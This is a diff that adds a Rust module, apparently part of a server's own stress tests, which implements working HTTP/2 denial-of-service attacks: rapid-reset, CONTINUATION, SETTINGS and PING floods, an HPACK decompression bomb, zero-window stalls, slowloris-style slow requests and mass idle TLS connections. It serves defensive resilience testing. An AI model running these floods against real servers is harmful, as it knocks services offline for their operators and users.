@@ -1,0 +1,232 @@
+//! The attackers: raw frames and slow sockets, from a process of their own until their input ends.
+
+use super::{Fallible, callers};
+use qaqpa::command::demo::scratch::Scratch;
+use rustls::pki_types::ServerName;
+use std::io::Read;
+use std::net::SocketAddr;
+use std::path::Path;
+use std::sync::Arc;
+use std::sync::atomic::{AtomicU64, Ordering};
+use std::time::Duration;
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::net::TcpStream;
+use tokio::time::sleep;
+
+/// One way to misbehave.
+pub(super) struct Attack {
+    pub(super) name: &'static str,
+    pub(super) is_tls: bool,
+    kind: Kind,
+}
+
+#[derive(Clone, Copy)]
+enum Kind {
+    /// Said first, then again and again, by this many at once; each comes back when it is cut.
+    Flood(fn() -> (Vec<u8>, Vec<u8>)),
+    /// A request and its reset, with a new stream each time.
+    Resets,
+    /// Opens so many connections, asks once, and rests.
+    Idle(usize),
+    /// Opens so many and is slow in three ways.
+    Slow(usize),
+}
+
+/// Connections that flood at the same time.
+const FLOODERS: usize = 16;
+
+pub(super) const ALL: &[Attack] = &[
+    Attack { name: "rapid-reset", is_tls: false, kind: Kind::Resets },
+    Attack { name: "continuation", is_tls: false, kind: Kind::Flood(continuation) },
+    Attack { name: "empty-data", is_tls: false, kind: Kind::Flood(empty_data) },
+    Attack { name: "settings", is_tls: false, kind: Kind::Flood(settings) },
+    Attack { name: "ping", is_tls: false, kind: Kind::Flood(ping) },
+    Attack { name: "hpack-bomb", is_tls: false, kind: Kind::Flood(hpack_bomb) },
+    Attack { name: "window-0", is_tls: false, kind: Kind::Flood(window_0) },
+    Attack { name: "slow", is_tls: false, kind: Kind::Slow(5_000) },
+    Attack { name: "idle-tls", is_tls: true, kind: Kind::Idle(9_000) },
+];
+
+fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
+    let head = [length.get(1..).unwrap_or_default(), &[kind, flags]].concat();
+    [&head, stream.to_be_bytes().as_slice(), payload].concat()
+}
+
+/// `GET /?wsdl`: static table and two literals.
+fn head() -> Vec<u8> {
+    [b"\x82\x86\x41\x01a\x44\x06".as_slice(), b"/?wsdl"].concat()
+}
+
+fn continuation() -> (Vec<u8>, Vec<u8>) {
+    (frame(1, 0, 1, &head()), frame(9, 0, 1, b""))
+}
+
+fn empty_data() -> (Vec<u8>, Vec<u8>) {
+    // POST, so that a body is waited for.
+    (frame(1, 4, 1, b"\x83\x86\x41\x01a\x84"), frame(0, 0, 1, b""))
+}
+
+fn settings() -> (Vec<u8>, Vec<u8>) {
+    (Vec::new(), frame(4, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]))
+}
+
+fn ping() -> (Vec<u8>, Vec<u8>) {
+    (Vec::new(), frame(6, 0, 0, &[0; 8]))
+}
+
+/// 3900 bytes in the table, named 4000 times: 15 MB out of 8 KB.
+fn hpack_bomb() -> (Vec<u8>, Vec<u8>) {
+    let entry = [b"\x40\x04bomb\x7f\xbd\x1d".as_slice(), &[b'x'; 3900]].concat();
+    (Vec::new(), frame(1, 5, 1, &[head(), entry, vec![0xbe; 4000]].concat()))
+}
+
+/// Answers are asked for and never taken.
+fn window_0() -> (Vec<u8>, Vec<u8>) {
+    let none = frame(4, 0, 0, &[0, 4, 0, 0, 0, 0]);
+    let asked = (0..100).flat_map(|at| frame(1, 5, 2 * at + 1, &head()));
+    (none.into_iter().chain(asked).collect(), frame(6, 0, 0, &[0; 8]))
+}
+
+/// Attacks until the input ends; prints how many connections stand when it begins, and how many were
+/// opened when it ends.
+pub(super) fn run(name: &str, address: SocketAddr, state: &Path) -> Fallible<()> {
+    let attack = ALL.iter().find(|attack| attack.name == name).ok_or("no such attack")?;
+    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
+    let opened = Arc::new(AtomicU64::new(0));
+    let (count, kind) = (Arc::clone(&opened), attack.kind);
+    let state = state.to_owned();
+    let (ready, is_ready) = std::sync::mpsc::channel();
+    std::thread::spawn(move || {
+        let attacked = runtime.block_on(async {
+            let held = match kind {
+                Kind::Idle(connections) => idle(&state, address, connections, &count).await?,
+                Kind::Slow(connections) => slow(address, connections, &count).await,
+                Kind::Flood(said) => {
+                    for _ in 0..FLOODERS {
+                        tokio::spawn(flood(address, said(), Arc::clone(&count)));
+                    }
+                    Vec::new()
+                }
+                Kind::Resets => {
+                    for _ in 0..FLOODERS {
+                        tokio::spawn(resets(address, Arc::clone(&count)));
+                    }
+                    Vec::new()
+                }
+            };
+            ready.send(())?;
+            std::future::pending::<()>().await;
+            drop(held);
+            Ok::<_, Box<dyn std::error::Error + Send + Sync>>(())
+        });
+        if let Err(error) = attacked {
+            eprintln!("the attack fails: {error}");
+        }
+    });
+    is_ready.recv()?;
+    println!("{}", opened.load(Ordering::Relaxed));
+    let _ended = std::io::stdin().read(&mut [0])?;
+    println!("{}", opened.load(Ordering::Relaxed));
+    Ok(())
+}
+
+async fn greeted(address: SocketAddr, count: &AtomicU64) -> std::io::Result<TcpStream> {
+    let mut socket = TcpStream::connect(address).await?;
+    count.fetch_add(1, Ordering::Relaxed);
+    socket.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0").await?;
+    Ok(socket)
+}
+
+async fn flood(address: SocketAddr, (first, again): (Vec<u8>, Vec<u8>), count: Arc<AtomicU64>) {
+    let many = again.repeat((4096 / again.len()).max(1));
+    loop {
+        if let Ok(mut socket) = greeted(address, &count).await {
+            let mut is_open = socket.write_all(&first).await.is_ok();
+            while is_open {
+                is_open = socket.write_all(&many).await.is_ok();
+                // What is answered is read, or the floods would end at a full socket.
+                let mut buffer = [0; 16 * 1024];
+                is_open &= !matches!(socket.try_read(&mut buffer), Ok(0));
+                tokio::task::yield_now().await;
+            }
+        }
+        sleep(Duration::from_millis(1)).await;
+    }
+}
+
+async fn resets(address: SocketAddr, count: Arc<AtomicU64>) {
+    loop {
+        if let Ok(mut socket) = greeted(address, &count).await {
+            let mut stream = 1_u32;
+            loop {
+                let mut bytes = Vec::new();
+                for _ in 0..50 {
+                    bytes.extend(frame(1, 5, stream, &head()));
+                    bytes.extend(frame(3, 0, stream, &[0, 0, 0, 8]));
+                    stream += 2;
+                }
+                let mut buffer = [0; 16 * 1024];
+                if socket.write_all(&bytes).await.is_err()
+                    || matches!(socket.try_read(&mut buffer), Ok(0))
+                {
+                    break;
+                }
+                tokio::task::yield_now().await;
+            }
+        }
+        sleep(Duration::from_millis(1)).await;
+    }
+}
+
+type Held = Box<dyn std::any::Any + Send>;
+
+async fn idle(
+    state: &Path,
+    address: SocketAddr,
+    connections: usize,
+    count: &AtomicU64,
+) -> Fallible<Vec<Held>> {
+    let tls = callers::tls(&Scratch::prepare(state)?)?;
+    let mut held: Vec<Held> = Vec::new();
+    for _ in 0..connections {
+        let socket = TcpStream::connect(address).await?;
+        let mut stream = tls.connect(ServerName::try_from("localhost")?, socket).await?;
+        stream.write_all(b"GET /nothing HTTP/1.1\r\nhost: a\r\n\r\n").await?;
+        let _read_bytes = stream.read(&mut [0; 4096]).await?;
+        count.fetch_add(1, Ordering::Relaxed);
+        held.push(Box::new(stream));
+    }
+    Ok(held)
+}
+
+/// A head a byte at a time, a body a byte at a time, answers that are not read; each comes back.
+async fn slow(address: SocketAddr, connections: usize, count: &Arc<AtomicU64>) -> Vec<Held> {
+    for at in 0..connections {
+        let count = Arc::clone(count);
+        tokio::spawn(async move {
+            loop {
+                if let Ok(mut socket) = TcpStream::connect(address).await {
+                    count.fetch_add(1, Ordering::Relaxed);
+                    let first: Vec<u8> = match at % 3 {
+                        0 => b"POST / HTTP/1.1\r\nhost: a\r\nx: ".to_vec(),
+                        1 => b"POST / HTTP/1.1\r\nhost: a\r\ncontent-length: 9000\r\n\r\n".to_vec(),
+                        _ => b"GET /?wsdl HTTP/1.1\r\nhost: a\r\n\r\n".repeat(2_000),
+                    };
+                    let mut is_open = socket.write_all(&first).await.is_ok();
+                    while is_open {
+                        sleep(Duration::from_secs(1)).await;
+                        let byte: &[u8] = if at % 3 == 2 { b"" } else { b"x" };
+                        is_open = socket.write_all(byte).await.is_ok()
+                            && !matches!(socket.try_read(&mut [0]), Ok(0));
+                    }
+                }
+                sleep(Duration::from_millis(100)).await;
+            }
+        });
+        if at % 100 == 0 {
+            sleep(Duration::from_millis(5)).await;
+        }
+    }
+    Vec::new()
+}
